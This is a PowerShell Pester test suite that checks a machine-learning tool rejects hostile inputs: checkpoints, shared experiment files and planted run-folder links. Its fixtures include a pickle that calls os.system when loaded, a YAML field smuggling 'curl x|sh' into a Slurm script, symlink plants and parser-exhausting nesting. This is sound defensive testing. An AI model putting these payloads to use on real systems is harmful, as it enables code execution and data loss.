# Issue 17: inputs crafted by an attacker or shared on a cluster get a PowerShell error with a category and the
# offending target; nothing runs and nothing already on disk is lost.
BeforeAll {
    . (Join-Path $PSScriptRoot 'TestSetup.ps1')
    $script:root = Join-Path ([IO.Path]::GetTempPath()) "refilled-hostile-$([guid]::NewGuid().ToString('N'))"
    $script:mnist = New-TinyMnist (Join-Path $root 'tiny-mnist') -Classes 4 -TrainPerClass 8 -TestPerClass 2
    Add-Type -AssemblyName System.IO.Compression.FileSystem

    function script:New-Zip([string] $Path, [object[]] $Entries) {
        $zip = [IO.Compression.ZipFile]::Open($Path, 'Create')
        try {
            foreach ($e in $Entries) {
                $s = $zip.CreateEntry($e.Name, 'NoCompression').Open()
                $s.Write($e.Bytes, 0, $e.Bytes.Length)
                $s.Dispose()
            }
        }
        finally { $zip.Dispose() }
        $Path
    }
    # GLOBAL os system + REDUCE: pickle.loads would run 'true' in a shell.
    $script:osSystem = [byte[]](@(0x80, 2) + [Text.Encoding]::ASCII.GetBytes("cos`nsystem`n") + @(0x58, 4, 0, 0, 0) +
        [Text.Encoding]::ASCII.GetBytes('true') + @(0x85, 0x52, 0x2E))
    $script:emptyDict = [byte[]](0x80, 2, 0x7D, 0x71, 0, 0x2E)

    function script:New-Experiment([string] $Name, [string] $Resources = '') {
        $file = Join-Path $root "$Name.yaml"
        @"
name: $Name
data: { path: ./tiny-mnist, classes: [2, 3], validation_fraction: 0.25 }
teacher:
  pretrain: { architecture: smallcnn-16, classes: [0, 1], epochs: 1, batch: 8, validation_fraction: 0 }
student: { architecture: smallcnn-16 }
stages:
  stage1: { epochs: 1, batch: 8 }
  stage2: { epochs: 1, batch: 8 }
seed: 1
threads: 2
$Resources
"@ | Set-Content $file
        $file
    }
}

AfterAll {
    Remove-Item $root -Recurse -Force -ErrorAction SilentlyContinue
}

Describe 'PyTorch files that try to run code' {
    It 'refuses an unscanned pickle placed before the scanned one, naming the file' {
        $file = New-Zip (Join-Path $root 'two-pickles.pt') @(
            @{ Name = 'archive/xdata.pkl'; Bytes = $osSystem }, @{ Name = 'archive/data.pkl'; Bytes = $emptyDict })
        $err = { Import-Teacher $file -Architecture smallcnn -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.CorruptCheckpoint,*'
        $err.CategoryInfo.Category | Should -Be 'InvalidData'
        $err.TargetObject | Should -Be $file
        $err.Exception.Message | Should -BeLike '*archive/xdata.pkl*'
    }

    It 'refuses a pickle that names os.system as a security error' {
        $file = New-Zip (Join-Path $root 'os-system.pt') @(@{ Name = 'archive/data.pkl'; Bytes = $osSystem })
        $err = { Import-Teacher $file -Architecture smallcnn -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.UnsafePickle,*'
        $err.CategoryInfo.Category | Should -Be 'SecurityError'
        $err.TargetObject | Should -Be $file
    }
}

Describe 'Slurm scripts from shared experiment files' {
    It 'refuses a resource with a line break at its line and column, and writes no script' {
        $file = New-Experiment 'inject' "resources:`n  mem: `"4G\ncurl x|sh`""
        $script = Join-Path $root 'inject.sh'
        $err = { Export-RefilledSweep $file -Format SlurmArray -OutputPath $script -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.InvalidArgument,*'
        $err.TargetObject | Should -Be $file
        $err.Exception.Message | Should -BeLike "*inject.yaml:12:8: 'resources.mem' must be a whole number*"
        Test-Path $script | Should -BeFalse
    }

    It 'does not replace a script without -Force, shows it with -WhatIf, and replaces it with -Force' {
        $file = New-Experiment 'twice'
        $script = Join-Path $root 'twice.sh'
        Export-RefilledSweep $file -Format SlurmArray -OutputPath $script -WhatIf
        Test-Path $script | Should -BeFalse
        Export-RefilledSweep $file -Format SlurmArray -OutputPath $script | Out-Null
        'edited by hand' | Set-Content $script
        { Export-RefilledSweep $file -Format SlurmArray -OutputPath $script -WhatIf -ErrorAction Stop } | Should -Not -Throw
        $err = { Export-RefilledSweep $file -Format SlurmArray -OutputPath $script -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.FileExists,*'
        $err.CategoryInfo.Category | Should -Be 'ResourceExists'
        $err.TargetObject | Should -Be $script
        Get-Content $script | Should -Be 'edited by hand'
        (Export-RefilledSweep $file -Format SlurmArray -OutputPath $script -Force).FullName | Should -Be $script
        Get-Content $script -Raw | Should -Match '#SBATCH --array=0-0'
    }

    It 'expands a wildcard -Path into one script per file, refuses one -OutputPath for several, and takes -LiteralPath as typed' {
        $a, $b = (New-Experiment 'glob-a'), (New-Experiment 'glob-b')
        $scripts = @(Export-RefilledSweep (Join-Path $root 'glob-?.yaml') -Format SlurmArray)
        $scripts.Name | Sort-Object | Should -Be 'glob-a.slurm.sh', 'glob-b.slurm.sh'
        $shared = Join-Path $root 'shared.sh'
        $err = { Export-RefilledSweep (Join-Path $root 'glob-?.yaml') -Format SlurmArray -OutputPath $shared -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.OutputPathShared,*'
        $err.TargetObject | Should -Be $shared
        $bracketed = Join-Path $root '[glob].yaml'
        Copy-Item -LiteralPath $a -Destination $bracketed
        $literal = Export-RefilledSweep -LiteralPath $bracketed -Format SlurmArray -OutputPath (Join-Path $root 'literal.sh')
        Get-Content $literal.FullName -Raw | Should -Match ([regex]::Escape($bracketed))
        (Get-Item -LiteralPath $b | Export-RefilledSweep -Format SlurmArray -OutputPath (Join-Path $root 'piped.sh')).Name | Should -Be 'piped.sh'
    }
}

Describe 'Files that would be overwritten' {
    It 'Export-RefilledReport keeps an existing report without -Force and writes nothing with -WhatIf' {
        $file = New-Experiment 'report'
        $runs = Join-Path $root 'report-runs'
        Invoke-RefilledExperiment $file -OutputPath $runs | Out-Null
        $report = Join-Path $root 'report-out'
        Export-RefilledReport $runs -OutputPath $report -WhatIf
        Test-Path $report | Should -BeFalse
        $html = (@(Export-RefilledReport $runs -OutputPath $report) | Where-Object Name -eq 'report.html').FullName
        'kept' | Set-Content $html
        { Export-RefilledReport $runs -OutputPath $report -WhatIf -ErrorAction Stop } | Should -Not -Throw
        $err = { Export-RefilledReport $runs -OutputPath $report -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.FileExists,*'
        Get-Content $html | Should -Be 'kept'
        $written = @(Export-RefilledReport $runs -OutputPath $report -Force)
        Get-Content $html -Raw | Should -Match '^<!DOCTYPE html>'
        # Issue 25: every picture it would replace is kept too.
        $written.Name | Should -BeIn ([Refilled.Engine.Experiments.ExperimentReport]::Files)
        Remove-Item $html
        foreach ($picture in $written | Where-Object Extension -eq '.png') {
            'kept' | Set-Content $picture.FullName
            $err = { Export-RefilledReport $runs -OutputPath $report -ErrorAction Stop } | Should -Throw -PassThru
            $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.FileExists,*'
            $err.TargetObject | Should -Be $picture.FullName
            Get-Content $picture.FullName | Should -Be 'kept'
            Remove-Item $picture.FullName
        }
    }

    It 'Export-RefilledReport writes one report per folder a wildcard matches, and takes -LiteralPath as typed' {
        $runs = Join-Path $root 'glob-runs'
        Invoke-RefilledExperiment (New-Experiment 'glob') -OutputPath $runs | Out-Null
        $copy = Join-Path $root 'glob-runs[copy]'
        Copy-Item -LiteralPath $runs -Destination $copy -Recurse
        $html = @(Export-RefilledReport -LiteralPath $copy) | Where-Object Name -eq 'report.html'
        $html.FullName | Should -Be (Join-Path $copy 'report/report.html')
        $err = { Export-RefilledReport (Join-Path $root 'glob-run*') -OutputPath (Join-Path $root 'one-report') -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.OutputPathShared,*'
        (Get-ChildItem -LiteralPath (Join-Path $root 'one-report')).Name | Should -Contain 'report.html'
    }

    It '-CheckpointPath refuses an existing file before training, and replaces it with -Force' {
        $data = Get-RefilledDataset Mnist -Path $mnist -Split Train -Classes 0, 1 -Seed 1
        $checkpoint = Join-Path $root 'precious.refilled'
        'precious' | Set-Content $checkpoint
        $err = { Invoke-RefilledPretraining smallcnn-16 -Data $data -Epochs 1 -BatchSize 8 -CheckpointPath $checkpoint -ErrorAction Stop } |
            Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.FileExists,*'
        $err.TargetObject | Should -Be $checkpoint
        Get-Content $checkpoint | Should -Be 'precious'
        Invoke-RefilledPretraining smallcnn-16 -Data $data -Epochs 1 -BatchSize 8 -CheckpointPath $checkpoint -Force | Out-Null
        (Import-Student $checkpoint).Architecture | Should -Be 'smallcnn-16'
    }
}

# Issue 25: shared folders where another user plants links, and files written to kill or stall the session.
Describe 'Shared run folders' {
    BeforeAll {
        function script:New-RunFolder([string] $Name) {
            $file = New-Experiment $Name
            $runs = Join-Path $root "$Name-runs"
            $folder = (Get-RefilledRun $file -OutputPath $runs).Path
            New-Item -ItemType Directory $folder | Out-Null
            $victim = Join-Path $root "$Name-victim"
            'precious' | Set-Content $victim
            @{ File = $file; Runs = $runs; Folder = $folder; Victim = $victim }
        }
    }

    It 'refuses a <File> planted as a link before training, naming it, and leaves its target alone' -TestCases @(
        @{ File = 'run.lock' }, @{ File = 'run.log' }) {
        $run = New-RunFolder ('link-' + $File.Replace('.', '-'))
        $planted = Join-Path $run.Folder $File
        New-Item -ItemType SymbolicLink -Path $planted -Target $run.Victim | Out-Null
        $err = { Invoke-RefilledExperiment $run.File -OutputPath $run.Runs -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.UnsafePath,*'
        $err.CategoryInfo.Category | Should -Be 'SecurityError'
        $err.TargetObject | Should -Be $planted
        Get-Content $run.Victim | Should -Be 'precious'
        Get-ChildItem $run.Folder -Filter '*.refilled' | Should -BeNullOrEmpty
    }

    It 'lists runs whose run.lock this user may only read, or not even read (Unknown)' {
        $readable = New-RunFolder 'foreign-0444'
        $unreadable = New-RunFolder 'foreign-0000'
        foreach ($run in $readable, $unreadable) {
            Copy-Item $run.File (Join-Path $run.Folder 'config.yaml')
            New-Item (Join-Path $run.Folder 'run.lock') | Out-Null
        }
        chmod 0444 (Join-Path $readable.Folder 'run.lock')
        chmod 0000 (Join-Path $unreadable.Folder 'run.lock')
        # As root, drop the capabilities that bypass file modes, so the modes apply as they would to another user.
        $command = "'$($readable.Runs)', '$($unreadable.Runs)' | Get-RefilledRun -ErrorAction Stop | ForEach-Object { `$_.Experiment + '=' + `$_.Status }"
        $exe = [Environment]::ProcessPath
        $argv = @((Join-Path $PSHOME 'pwsh.dll'), '-NoProfile', '-NonInteractive', '-Command', "Import-Module '$env:REFILLED_MODULE_PATH'; $command")
        if ((id -u) -eq '0') { $argv = @('--bounding-set=-all', '--inh-caps=-all', '--', $exe) + $argv; $exe = 'setpriv' }
        $lines = & $exe @argv 2>&1
        $LASTEXITCODE | Should -Be 0 -Because ($lines -join "`n")
        $lines | Should -Be @('foreign-0444=Pending', 'foreign-0000=Unknown')
    }
}

Describe 'Experiment files written to kill or stall the session' {
    It 'refuses 60,000 nested lists in a planted config.yaml at their line and column, and the session lives on' {
        $folder = Join-Path $root 'deep-runs/deep/run'
        New-Item -ItemType Directory $folder -Force | Out-Null
        $config = Join-Path $folder 'config.yaml'
        "name: d`nx: " + ('[' * 60000) + (']' * 60000) | Set-Content $config
        $err = { Get-RefilledRun (Join-Path $root 'deep-runs') -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.InvalidArgument,*'
        $err.TargetObject | Should -Be $config
        $err.Exception.Message | Should -BeLike "*config.yaml:2:67: lists and mappings nest more than 64 deep*"
    }

    It 'refuses a sweep of more runs than an int holds instead of running none' {
        $axis = { param($first, $step) '[' + ((0..1290 | ForEach-Object { [string]($first + $_ * $step) }) -join ', ') + ']' }
        $file = New-Experiment 'overflow' ("sweep:`n  lambda: $(& $axis 0 0.001)`n  tau2: $(& $axis 1 0.01)`n  seed: $(& $axis 0 1)")
        $runs = Join-Path $root 'overflow-runs'
        $err = { Invoke-RefilledExperiment $file -OutputPath $runs -ErrorAction Stop } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'Refilled.InvalidArgument,*'
        $err.TargetObject | Should -Be $file
        $err.Exception.Message | Should -BeLike '*expands to 2,151,685,171 runs*'
        Test-Path $runs | Should -BeFalse
    }
}
